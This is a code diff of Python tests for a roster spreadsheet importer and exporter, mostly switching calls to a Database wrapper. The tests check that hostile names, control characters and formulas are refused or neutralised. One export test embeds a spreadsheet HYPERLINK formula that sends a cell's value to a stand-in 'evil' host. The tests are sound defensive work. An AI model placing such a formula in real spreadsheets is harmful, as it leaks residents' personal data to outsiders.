@@ -16,8 +16,10 @@ from desktop.models.problem import Problem
 from desktop.models.registry import Household, Member
 from desktop.services.problems.importer import COLUMNS as PROBLEM_COLUMNS
 from desktop.services.problems.importer import ProblemImporter
+from desktop.services.roster.export import export_roster
+from desktop.services.roster.importer import import_roster
 from desktop.services.roster.template import HEADERS
-from desktop.services.roster.workbook_io import export_roster, import_roster
+from desktop.services.unit_of_work import Database
 from desktop.services.workbooks.sanitise import safe_row
 from tests import hostile_files
 from tests.problem_fixtures import service
@@ -70,7 +72,7 @@ def test_hostile_names_are_row_errors(tmp_path, engine, name, words):
         source = write_xls(tmp_path / "r.xls", rows)
     else:
         source = write_xlsx(tmp_path / "r.xlsx", rows)
-    result = import_roster(engine, source)
+    result = import_roster(Database(engine), source)
     assert not result.written and households(engine) == 0
     found = errors_at(result, "姓名")
     assert found and found[0].row == 3, [e.text() for e in result.errors]
@@ -83,7 +85,7 @@ def test_hostile_names_are_row_errors(tmp_path, engine, name, words):
 def test_xlsx_escaped_control_character_is_refused(tmp_path, engine):
     rows = clean_rows()
     raw = {(0, "姓名"): ' t="inlineStr"><is><t>张_x0007_三</t></is>'}
-    result = import_roster(engine, xml_roster(tmp_path / "r.xlsx", rows, raw))
+    result = import_roster(Database(engine), xml_roster(tmp_path / "r.xlsx", rows, raw))
     assert not result.written
     assert "控制字符" in errors_at(result, "姓名")[0].message
 
@@ -117,7 +119,7 @@ def test_fields_have_types_lengths_and_ranges(tmp_path, engine, header, value, w
         source = xml_roster(tmp_path / "r.xlsx", rows)
     else:
         source = write_xlsx(tmp_path / "r.xlsx", rows)
-    result = import_roster(engine, source)
+    result = import_roster(Database(engine), source)
     assert not result.written and households(engine) == 0
     assert any(word in e.message for e in errors_at(result, header)), [
         e.text() for e in result.errors
@@ -130,7 +132,7 @@ def test_plausible_values_still_import(tmp_path, engine):
         row["联系电话"] = "+86 138-0000-0000"
     rows[5]["联系电话"] = 13900000000.0
     rows[1]["姓名"] = "阿卜杜热合曼·买买提"
-    result = import_roster(engine, write_xlsx(tmp_path / "r.xlsx", rows))
+    result = import_roster(Database(engine), write_xlsx(tmp_path / "r.xlsx", rows))
     assert result.written, result.summary_lines()
 
 
@@ -140,7 +142,7 @@ def test_formula_without_saved_value_gets_its_own_message(tmp_path, engine):
         (1, "姓名"): '><f>CONCATENATE("李","梅")</f>',
         (5, "联系电话"): "><f>A1</f><v></v>",  # optional, but it would silently be empty
     }
-    result = import_roster(engine, xml_roster(tmp_path / "r.xlsx", rows, raw))
+    result = import_roster(Database(engine), xml_roster(tmp_path / "r.xlsx", rows, raw))
     assert not result.written
     for header, row in (("姓名", 3), ("联系电话", 7)):
         found = errors_at(result, header)
@@ -176,14 +178,14 @@ def sheet_xml(path) -> str:
 
 
 def test_roster_export_writes_text_as_text(tmp_path, engine):
-    assert import_roster(engine, write_xlsx(tmp_path / "r.xlsx", clean_rows())).written
+    assert import_roster(Database(engine), write_xlsx(tmp_path / "r.xlsx", clean_rows())).written
     payload = '=HYPERLINK("http://evil/?"&I2,"点击")'
     with engine.begin() as conn:  # as an older version, or another program, may have stored
         conn.execute(update(Member).where(Member.name == "李梅").values(name=payload))
         conn.execute(update(Member).where(Member.name == "张小明").values(name="张\x07小明"))
         conn.execute(update(Household).where(Household.code == "H002").values(phone="-2+3"))
     out = tmp_path / "out.xlsx"
-    assert export_roster(engine, out, full_ids=True) == 6
+    assert export_roster(Database(engine), out, full_ids=True) == 6
     assert "<f>" not in sheet_xml(out)
     values = [c for row in load_workbook(out).worksheets[0].values for c in row]
     assert payload in values and "张小明" in values and "-2+3" in values
